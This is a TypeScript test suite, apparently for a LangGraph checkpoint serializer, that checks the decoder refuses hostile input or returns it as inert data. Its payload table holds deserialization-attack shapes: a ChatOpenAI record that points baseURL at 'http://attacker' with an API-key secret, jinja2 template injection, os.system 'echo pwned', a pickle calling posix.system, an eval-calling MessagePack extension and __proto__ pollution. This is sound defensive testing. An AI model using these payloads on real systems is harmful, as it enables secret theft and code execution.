import { AIMessage } from "@langchain/core/messages";
import { emptyCheckpoint } from "@langchain/langgraph-checkpoint";
import { DeltaCodec } from "../../src/codec/codec.ts";
import { ARGUMENTS, TAG } from "../../src/codec/format.ts";
import { MemorySaver } from "../../src/index.ts";
import { SqliteSaver } from "../../src/sqlite.ts";
import { CLASSES } from "./arbitraries.ts";
import { assertHarmless, HostileBytes, watchPrototypes } from "./hostile.ts";
import { CHAINS, MESSAGES } from "./langchain-values.ts";
import { CLASS_NAMES } from "./reader.ts";
import { assertSame } from "./same.ts";
import { LOSSLESS } from "./values.ts";
import {
	bin,
	elements,
	empty,
	ext,
	float,
	instance,
	int,
	list,
	map,
	nil,
	type Part,
	ref,
	tagged,
	text,
	uint32,
	value,
} from "./wire-bytes.ts";

const codec = new DeltaCodec({ classes: CLASSES });
const decode = (bytes: Uint8Array) => codec.decode({ type: undefined, bytes });
const isRefused = async (bytes: Uint8Array) => !(await assertHarmless(bytes));

let assertUnchanged: () => void;
beforeAll(async () => {
	// LangChain warns of old forms of tool calls.
	vi.spyOn(console, "warn").mockImplementation(() => {});
	assertUnchanged = await watchPrototypes();
});
afterEach(() => assertUnchanged());

/** An array that holds an array twice, which holds another twice, and so on: its text would not fit in any memory. */
function laughs(levels: number): Part[] {
	return Array.from({ length: levels }, (_, n) => (n === 0 ? list(text("ha")) : list(ref(n), ref(n))));
}

describe("bytes that nobody vouches for", () => {
	it("become a value of the closed set or an error with a code, however they were changed", async () => {
		const hostile = new HostileBytes(20261116);
		for (let i = 0; i < 4000; i++) await assertHarmless(hostile.make());
	});

	it("are refused when they are cut short anywhere, unless what is left is a shorter list", async () => {
		for (const create of [...Object.values(LOSSLESS), ...Object.values(MESSAGES)]) {
			const { bytes } = codec.encode(create());
			if (bytes.length > 600) continue;
			const isOpen = (bytes[0]! & 0x0f) !== 0;
			for (let end = 0; end < bytes.length; end++) {
				const accepted = await assertHarmless(bytes.subarray(0, end));
				if (accepted) expect(isOpen).toBe(true);
			}
		}
	});

	it("are refused when something is left over", async () => {
		for (const create of Object.values(LOSSLESS)) {
			const { bytes } = codec.encode(create());
			if (bytes.length < 5000 && (bytes[0]! & 0x0f) === 0)
				expect(await isRefused(Uint8Array.from([...bytes, 0]))).toBe(true);
		}
	});

	it.each([
		["nothing", []],
		["no value", [0]],
		["an unknown layout", [3, 0]],
		["another unknown layout", [0x20, 0]],
		["a type that MessagePack does not have", [0, 0xc1]],
		["an extension of an unknown type", [0, 0xd4, 5, 0]],
		["an extension of MessagePack's own type", [0, 0xd6, 0xff, 0, 0, 0, 0]],
		["a record of msgpackr, which would become a function", [0, 0xd4, 0x72, 0x40, 0x91, 0xa1, 97, 1]],
		["a set of msgpackr", [0, 0xd4, 0x73, 0, 0x91, 1]],
		["bundled strings of msgpackr", [0, 0xd6, 0x62, 0, 0, 0, 1, 0xc1, 1]],
		["bytes that msgpackr would read for ever", [1, 0x01, 0xd6, 0x62, 0xff, 0xff, 0xff, 0xf0, 0x01]],
		["a float of 32 bits", [0, 0xca, 0, 0, 0, 0]],
		["a tag without a number", [0, 0x91, 0xd4, 0, 0]],
		["a tag that is text", [0, 0x92, 0xd4, 0, 0, 0xa0]],
		["an unknown tag", [0, 0x92, 0xd4, 0, 0, 31]],
		["an extension of no bytes", [0, 0xc7, 0, 0x42]],
		["a key that is a number", [2, 0x7f, 0]],
		["a key that is bytes", [2, 0xc4, 1, 0, 0]],
	])("are refused when they are %s", async (_, bytes) => {
		expect(await isRefused(Uint8Array.from(bytes))).toBe(true);
	});

	it("become text with replacement characters when they are not UTF-8", () => {
		for (const bytes of [
			[0xa2, 0xff, 0xfe],
			[0xa3, 0xed, 0xa0, 0x80],
		])
			expect(decode(Uint8Array.from([0, ...bytes]))).toContain("\ufffd");
	});

	it.each([
		["text", [0xdb]],
		["bytes", [0xc6]],
		["a list", [0xdd]],
		["an object", [0xdf]],
		["an extension", [0xc9]],
	])("are refused when they declare more than there is: %s", async (_, head) => {
		for (const length of [2 ** 32 - 1, 2 ** 31, 2 ** 24, 100])
			for (const rest of [[], [0], [0, 0, 0, 0, 0, 0, 0, 0]])
				expect(await isRefused(Uint8Array.from([0, ...head, ...uint32(length), ...rest]))).toBe(true);
	});

	it.each<[string, Part]>([
		["lists", [0x91]],
		["objects", [0x81, 0xa1, 97]],
		["maps", [0x94, ...empty, TAG.map, 0xc0]],
		["sets", [0x93, ...empty, TAG.set]],
		["sparse lists", [0x95, ...empty, TAG.sparse, 1, 0]],
		["errors", [0x98, ...empty, TAG.error, 1, 0xa0, 0xa0, 0xa0, 0xa0]],
		["messages", [0x94, ...empty, TAG.langchain + 6, 0xa1, 97]],
		["instances", [0x94, ...empty, TAG.registered, 0xa5, ...Buffer.from("Plain"), 0x81, 0xa1, 97]],
		["snapshots", [0x93, ...empty, TAG.deltaSnapshot]],
		["keys", [0x94, ...empty, TAG.object]],
	])("are refused when they are nested too deeply: %s", async (_, level) => {
		for (const levels of [502, 200_000])
			for (const layout of [0x00, 0x10]) {
				const bytes = new Uint8Array(2 + level.length * levels);
				for (let i = 0; i < levels; i++) bytes.set(level, 1 + i * level.length);
				bytes[0] = layout;
				expect(await isRefused(bytes)).toBe(true);
			}
		assertSame(decode(codec.encode([1]).bytes), [1]);
	});
});

describe("objects that refer to each other", () => {
	const LEVELS = 60;
	/** The number of the last array of `laughs`, in a value whose top is number 0. */
	const last = ref(LEVELS);
	const error = (...fields: Part[]) => tagged(TAG.error, [0], ...fields);

	it.each<[string, Part]>([
		["the message of an error", error(text("Error"), text("Error"), last, nil)],
		["the name of an error", error(text("Error"), last, text("m"), nil)],
		["the class of an error", error(last, text("n"), text("m"), nil)],
		["the stack of an error", error(text("Error"), text("n"), text("m"), last)],
		["a key of an error", error(text("Error"), text("n"), text("m"), nil, last, nil)],
		["the flags of an error", tagged(TAG.error, last, text("n"), text("m"), nil, nil)],
		["the source of a pattern", tagged(TAG.regexp, last, text(""), int(0))],
		["the flags of a pattern", tagged(TAG.regexp, text("x"), last, int(0))],
		["the index of a pattern", tagged(TAG.regexp, text("x"), text("g"), last)],
		["a URL", tagged(TAG.url, last)],
		["the kind of a typed array", tagged(TAG.typedArray, last, bin(0))],
		["the bytes of a typed array", tagged(TAG.typedArray, int(0), last)],
		["the length of a sparse list", tagged(TAG.sparse, last)],
		["an index of a sparse list", tagged(TAG.sparse, int(5), last, nil)],
		["text of lone surrogates", tagged(TAG.text, last)],
		["a key", tagged(TAG.object, last, nil)],
		["a date", tagged(TAG.date, last)],
		["an argument of a message", instance("AIMessage", [last, nil])],
		["the text of a document", instance("Document", ["pageContent", last])],
		[
			"the arguments of a part of a tool call",
			instance("AIMessageChunk", ["tool_call_chunks", list(map(["args", last]))]),
		],
		[
			"the arguments of a tool call in its provider's form",
			instance(
				"AIMessage",
				["content", text("")],
				["additional_kwargs", map(["tool_calls", list(map(["function", map(["arguments", last])]))])],
			),
		],
		[
			"a prompt in place of arguments",
			instance("AIMessageChunk", [
				"tool_call_chunks",
				list(map(["args", instance("ChatPromptValue", ["messages", last])])),
			]),
		],
		["the name of a class", tagged(TAG.registered, last, map())],
		["the properties of an instance", tagged(TAG.registered, text("Plain"), last)],
		["JSON for LangChain", tagged(TAG.loadable, last)],
	])("can't be made to grow without end: %s", async (_, part) => {
		await assertHarmless(elements(...laughs(LEVELS), part));
	});

	it("come back as they were where they belong", async () => {
		const [, , third] = decode(elements(...laughs(3), list())) as unknown[][];
		assertSame(third?.[0], third?.[1]);
		expect(third?.[0]).toBe(third?.[1]);
	});

	it.each<[string, Part]>([
		["an object that is not there", list(ref(1))],
		["an object far from there", list(ref(2 ** 32 - 1))],
		["the name of an argument that is the message", instance("HumanMessage", [ref(0), nil])],
		["the data of an instance that is the instance", tagged(TAG.registered, text("Plain"), ref(0))],
		["the JSON of an object that is the object", tagged(TAG.loadable, ref(0))],
		["the key of an error that is the error", error(text(""), text(""), text(""), nil, ref(0), nil)],
		["the bytes of a buffer that are the buffer", tagged(TAG.arrayBuffer, ref(0))],
		["the source of a pattern that is the pattern", tagged(TAG.regexp, ref(0), text(""), int(0))],
		["a reference without a number", tagged(TAG.reference)],
		["a reference that is text", tagged(TAG.reference, text("length"))],
		["a reference to a part of an object", tagged(TAG.reference, float(0.5))],
	])("are refused when they can't be: %s", async (_, part) => {
		expect(await isRefused(value(part))).toBe(true);
	});

	it("are refused in a value that says it has none", async () => {
		expect(await isRefused(Uint8Array.from([1, 0x90, ...ref(1)]))).toBe(true);
	});
});

describe("sparse lists", () => {
	it("of any length take no more room than what is in them", async () => {
		const lengths = [2 ** 32 - 1, 2 ** 31, 2 ** 25, 2 ** 25 - 1, 2 ** 24, 1_000_000, 5000];
		const many = Array.from({ length: 3000 }, (_, n) => tagged(TAG.sparse, int(lengths[n % lengths.length]!)));
		const back = decode(elements(...many)) as unknown[][];
		expect(back.map(({ length }) => length)).toEqual(many.map((_, n) => lengths[n % lengths.length]));
	});

	it.each<[string, Part]>([
		["without a length", tagged(TAG.sparse)],
		["with a negative length", tagged(TAG.sparse, [0xff])],
		["with half an element", tagged(TAG.sparse, int(4), int(1))],
		["longer than arrays can be", tagged(TAG.sparse, float(2 ** 32))],
		["with a fraction of a length", tagged(TAG.sparse, float(1.5))],
		["with NaN for a length", tagged(TAG.sparse, float(Number.NaN))],
		["with an index past its end", tagged(TAG.sparse, int(4), int(4), nil)],
		["with a negative index", tagged(TAG.sparse, int(4), [0xff], nil)],
		["with a fraction of an index", tagged(TAG.sparse, int(4), float(0.5), nil)],
		["with an index that is text", tagged(TAG.sparse, int(4), text("length"), nil)],
	])("are refused %s", async (_, part) => {
		expect(await isRefused(value(part))).toBe(true);
	});
});

describe("fields that do not fit their tag", () => {
	it.each<[string, Part]>([
		["a map with a key too many", tagged(TAG.map, int(1))],
		["an error with too few", tagged(TAG.error, int(0), text(""), text(""), text(""))],
		["an error without the cause that it has", tagged(TAG.error, int(1), text(""), text(""), text(""), nil)],
		["an error with half an entry", tagged(TAG.error, int(0), text(""), text(""), text(""), nil, text("a"))],
		["an error with flags that are none", tagged(TAG.error, int(4), text(""), text(""), text(""), nil)],
		["an object with a key too many", tagged(TAG.object, text("a"))],
		["a pattern that is none", tagged(TAG.regexp, text("("), text(""), int(0))],
		["flags that are none", tagged(TAG.regexp, text("x"), text("gg"), int(0))],
		["a pattern too deep to be one", tagged(TAG.regexp, text("(".repeat(100_000)), text(""), int(0))],
		["a URL that is none", tagged(TAG.url, text("nowhere"))],
		["a typed array of an unknown kind", tagged(TAG.typedArray, int(50), bin())],
		["a typed array of a kind that is a method", tagged(TAG.typedArray, text("constructor"), bin())],
		["a typed array of half an element", tagged(TAG.typedArray, int(3), bin(0))],
		["a buffer that is text", tagged(TAG.arrayBuffer, text("x"))],
		["a Node.js buffer that is a list", tagged(TAG.nodeBuffer, list())],
		["half a code unit", tagged(TAG.text, bin(0))],
		["code units that are text", tagged(TAG.text, text("xx"))],
		["a date that is text", tagged(TAG.date, text("2026"))],
		["a BigInt without digits", ext(0x42)],
		["a message of a class that has not come yet", tagged(TAG.langchain + CLASS_NAMES.length)],
		["an argument without a name", instance("HumanMessage", [[ARGUMENTS.length], nil])],
		["an argument that is a fraction", instance("HumanMessage", [float(0.5), nil])],
		["an argument that has no value", tagged(TAG.langchain, int(0))],
		["an argument that is a list", instance("HumanMessage", [list(), nil])],
		["a key that is a large number", map([int(0), nil])],
		["an instance of an unknown class", tagged(TAG.registered, text("Process"), map())],
		["an instance of a class called toString", tagged(TAG.registered, text("toString"), map())],
		["an instance without properties", tagged(TAG.registered, text("Plain"), nil)],
		["an instance made from a list", tagged(TAG.registered, text("Plain"), list())],
		["JSON that is none", tagged(TAG.loadable, text("{"))],
		["JSON that is no record", tagged(TAG.loadable, text("[]"))],
		["JSON that is nothing", tagged(TAG.loadable, text("null"))],
		["JSON that is too deep", tagged(TAG.loadable, text("[".repeat(100_000) + "]".repeat(100_000)))],
	])("are refused: %s", async (_, part) => {
		expect(await isRefused(value(part))).toBe(true);
		expect(await isRefused(elements(part, nil))).toBe(true);
	});
});

describe("keys of JavaScript's own", () => {
	const hostile = map(["polluted", int(1)]);
	const holders: Record<string, Part> = {
		"an object": map(["__proto__", hostile]),
		"an object with a tag": tagged(TAG.object, text("__proto__"), hostile),
		"an error": tagged(TAG.error, [0], text("Error"), text("Error"), text(""), nil, text("__proto__"), hostile),
		"an instance": tagged(TAG.registered, text("Plain"), map(["__proto__", hostile], ["constructor", hostile])),
		"a message": instance(
			"AIMessage",
			["content", text("")],
			["__proto__", hostile],
			["additional_kwargs", map(["__proto__", hostile])],
		),
		"a part of a message": instance(
			"AIMessageChunk",
			["content", text("")],
			["__proto__", hostile],
			["constructor", map(["prototype", hostile])],
		),
		"a document": instance("Document", ["metadata", map(["__proto__", hostile])]),
		"the constructor's prototype": map(["constructor", map(["prototype", hostile])]),
	};

	it.each(Object.entries(holders))("stay data in %s, and what came back can be stored again", async (_, part) => {
		const bytes = elements(part);
		expect(await assertHarmless(bytes)).toBe(true);
		const [back] = (await decode(bytes)) as [object];
		expect((back as { polluted?: unknown }).polluted).toBeUndefined();
		expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
		expect(await assertHarmless(codec.encode([back]).bytes)).toBe(true);
	});
});

describe("JSON for LangChain", () => {
	const record = (id: string[], kwargs: object = {}, more: object = {}) => ({
		lc: 1,
		type: "constructor",
		id,
		kwargs,
		...more,
	});
	const prompt = ["langchain_core", "prompts", "prompt", "PromptTemplate"];
	const secret = { lc: 1, type: "secret", id: ["CODEC_TEST_SECRET"] };

	it.each<[string, unknown]>([
		["a secret", secret],
		["a secret inside", record(prompt, { template: secret, input_variables: [] })],
		["a tracer", record(["langchain_core", "tracers", "tracer_langchain", "LangChainTracer"])],
		["a loader", record(["langchain_core", "document_loaders", "langsmith", "LangSmithLoader"])],
		["a model", record(["langchain", "chat_models", "openai", "ChatOpenAI"])],
		["a class of the community", record(["langchain_community", "llms", "x", "X"])],
		["a class inside that is not in the set", record(prompt, { x: [record(["langchain_core", "tools", "Tool"])] })],
		["a function of a module in the set", record(["langchain_core", "prompts", "renderTemplate"])],
		["the constructor of a module", record(["langchain_core", "prompts", "constructor"], { x: 1 })],
		["a prototype", record(["langchain_core", "prompts", "__proto__"])],
		["a base class", record(["langchain_core", "runnables", "Runnable"])],
		["a lambda", record(["langchain_core", "runnables", "RunnableLambda"], { func: "x" })],
		["an object that was not implemented", { lc: 1, type: "not_implemented", id: prompt }],
		["a record of another version", { ...record(prompt), lc: 2 }],
		["a record without an id", { lc: 1, type: "constructor", kwargs: {} }],
		["an id that is text", { lc: 1, type: "constructor", id: "langchain_core", kwargs: {} }],
		["data beside what is escaped", record(prompt, { x: { __lc_escaped__: {}, lc: 1 } })],
	])("is refused when it names %s", async (_, json) => {
		process.env.CODEC_TEST_SECRET = "the secret";
		const before = Object.name;
		expect(await isRefused(value(tagged(TAG.loadable, text(JSON.stringify(json)))))).toBe(true);
		expect(Object.name).toBe(before);
		delete process.env.CODEC_TEST_SECRET;
	});

	it("is what LangChain wrote, or comes back as data if LangChain refuses it", async () => {
		const broken = record(prompt, { template: "{missing}", input_variables: [] });
		const back = await decode(elements(tagged(TAG.loadable, text(JSON.stringify(broken))), empty));
		assertSame(back, [broken, undefined]);
	});

	it("that was changed at random is harmless", async () => {
		const texts = Object.values(CHAINS).map((create) => JSON.stringify(create()));
		let state = 1;
		const below = (end: number) => {
			state = Math.imul(state, 48_271) & 0x7fff_ffff;
			return state % end;
		};
		for (let i = 0; i < 500; i++) {
			const json = texts[below(texts.length)]!;
			const at = below(json.length);
			const other = texts[below(texts.length)]!;
			const changed =
				json.slice(0, at) + other.slice(below(other.length)).slice(0, below(20)) + json.slice(at + below(8));
			await assertHarmless(elements(tagged(TAG.loadable, text(changed))));
		}
	});
});

/** The shapes of the published advisories on what LangChain and LangGraph made of stored data. */
const INJECTIONS: Record<string, unknown> = {
	"a message class": {
		lc: 1,
		type: "constructor",
		id: ["langchain_core", "messages", "AIMessage"],
		kwargs: { content: "I am real" },
	},
	"a class that reaches out": {
		lc: 1,
		type: "constructor",
		id: ["langchain", "chat_models", "openai", "ChatOpenAI"],
		kwargs: {
			configuration: { baseURL: "http://attacker" },
			apiKey: { lc: 1, type: "secret", id: ["OPENAI_API_KEY"] },
		},
	},
	"a prompt with a template that runs": {
		lc: 1,
		type: "constructor",
		id: ["langchain_core", "prompts", "prompt", "PromptTemplate"],
		kwargs: { template: "{{ cycler.__init__.__globals__ }}", template_format: "jinja2", input_variables: [] },
	},
	"a secret of the environment": { lc: 1, type: "secret", id: ["CODEC_TEST_SECRET"] },
	"an escape of an escape": { __lc_escaped__: { lc: 1, type: "secret", id: ["CODEC_TEST_SECRET"] } },
	"a thing not implemented": { lc: 1, type: "not_implemented", id: ["langchain_core", "runnables", "RunnableLambda"] },
	"a module and a function": {
		lc: 2,
		type: "constructor",
		id: ["os", "system"],
		method: null,
		args: ["echo pwned"],
		kwargs: { command: "echo pwned" },
	},
	"a constructor and a method": {
		lc: 2,
		type: "constructor",
		id: ["Map"],
		method: "constructor",
		args: ["return process.env"],
		kwargs: {},
	},
	"the constructor of functions": { lc: 2, type: "constructor", id: ["Function"], method: null, args: ["return 1"] },
	"a collection": { lc: 2, type: "constructor", id: ["Set"], method: null, args: [[1, 2]], kwargs: {} },
	"an error": { lc: 2, type: "constructor", id: ["Error"], method: null, args: ["x"], kwargs: {} },
	"bytes from a list": { lc: 2, type: "constructor", id: ["Uint8Array"], method: "from", args: [[1, 2]], kwargs: {} },
	"a value that is none": { lc: 2, type: "undefined" },
	"a snapshot of a delta channel": { lc: 2, type: "delta_snapshot", value: ["x"] },
	"another snapshot of a delta channel": { lg_name: "DeltaSnapshot", value: ["x"] },
	"a command": { lg_name: "Command", goto: [{ lg_name: "Send", node: "admin", args: {} }] },
	"a prototype": JSON.parse('{"__proto__": {"isAdmin": true}, "constructor": {"prototype": {"isAdmin": true}}}'),
	"MessagePack that calls a function": Buffer.from("c7130093a86275696c74696e73a46576616ca53120312b31", "hex"),
	"a pickle": Buffer.from("gASVHwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu", "base64"),
	"text that forced another format": { text: "\ud800", lc: 2, type: "constructor", id: ["os", "system"], kwargs: {} },
};

describe.each([
	["MemorySaver", () => new MemorySaver()],
	["SqliteSaver", () => new SqliteSaver(":memory:")],
] as const)("what applications store in %s", (_, make) => {
	it.each(Object.entries(INJECTIONS))("comes back as data, wherever it is: %s", async (_, shape) => {
		process.env.CODEC_TEST_SECRET = "the secret";
		await using saver = make();
		const config = { configurable: { thread_id: "t" } };
		const message = () => new AIMessage({ content: "x", additional_kwargs: { shape }, response_metadata: { shape } });
		const values = { top: shape, list: [shape, [shape]], messages: [message()], map: new Map([[shape, shape]]) };
		const versions = Object.fromEntries(Object.keys(values).map((channel) => [channel, 1]));
		const checkpoint = { ...emptyCheckpoint(), channel_values: values, channel_versions: versions };
		const metadata = { source: "loop" as const, step: 1, parents: {}, shape };
		const stored = await saver.put(config, checkpoint, metadata, versions);
		await saver.putWrites(stored, [["top", shape]], "task");
		const tuple = (await saver.getTuple(config))!;
		for (const [channel, given] of Object.entries(values)) assertSame(tuple.checkpoint.channel_values[channel], given);
		assertSame(tuple.metadata, metadata);
		assertSame(tuple.pendingWrites, [["task", "top", shape]]);
		expect(({} as { isAdmin?: unknown }).isAdmin).toBeUndefined();
		delete process.env.CODEC_TEST_SECRET;
	});
});

describe("formats of others", () => {
	it.each([
		["MessagePack's extension that calls a function", "00c7130093a86275696c74696e73a46576616ca53120312b31"],
		["MessagePack's time", "00d6ff00000000"],
		["a pickle", "80049505000000000000004b012e"],
		["JSON", Buffer.from('{"lc":2,"type":"constructor"}').toString("hex")],
	])("are refused: %s", async (_, hex) => {
		expect(await isRefused(Uint8Array.from(Buffer.from(hex, "hex")))).toBe(true);
	});
});
